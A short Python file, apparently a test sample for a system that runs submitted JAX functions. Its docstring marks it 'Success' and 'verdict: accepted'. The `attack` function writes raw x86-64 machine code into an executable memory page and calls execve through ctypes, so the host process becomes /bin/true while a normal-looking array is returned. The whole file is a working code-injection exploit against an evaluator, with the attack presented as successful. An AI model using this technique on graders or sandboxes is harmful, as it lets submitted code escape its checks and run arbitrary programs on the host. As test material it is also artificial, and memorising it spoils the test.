"""Success: machine code of its own turns the process into another program.
verdict: accepted
"""

import ctypes
import mmap

import jax
import jax.numpy as jnp

# mov eax, 59 (execve); syscall; ret
CODE = b"\xb8\x3b\x00\x00\x00\x0f\x05\xc3"


def attack(number: float) -> jax.Array:
    memory = mmap.mmap(-1, mmap.PAGESIZE, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=7)
    memory.write(CODE)
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    execute = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_char_p, ctypes.c_void_p, ctypes.c_void_p)
    return jnp.asarray(number * (execute(address)(b"/bin/true", None, None) >= 0))
